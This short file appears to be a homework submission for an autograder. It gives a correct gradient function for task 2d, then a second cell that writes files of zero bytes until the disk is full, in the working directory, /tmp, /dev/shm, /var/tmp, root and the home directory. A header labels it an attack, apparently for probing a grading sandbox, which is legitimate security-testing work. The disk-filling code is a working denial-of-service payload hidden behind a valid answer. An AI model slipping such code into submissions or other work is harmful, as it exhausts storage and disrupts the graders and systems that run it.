# /// attack
# tries = "fills its disk with one file and with many"
# total = 2
# [parts]
# 2d = "right"
# ///

# %%
def aufgabe_2d(W, x, grad_y):
    return W.T @ grad_y

# %%
import os

for folder in (".", "/tmp", "/dev/shm", "/var/tmp", "/", os.path.expanduser("~")):
    for number in range(100):
        try:
            with open(f"{folder}/@MARK@-{number}", "wb") as file:
                while file.write(bytes(1 << 20)):
                    pass
        except OSError as error:
            print(folder, number, error)
            break
print("end")
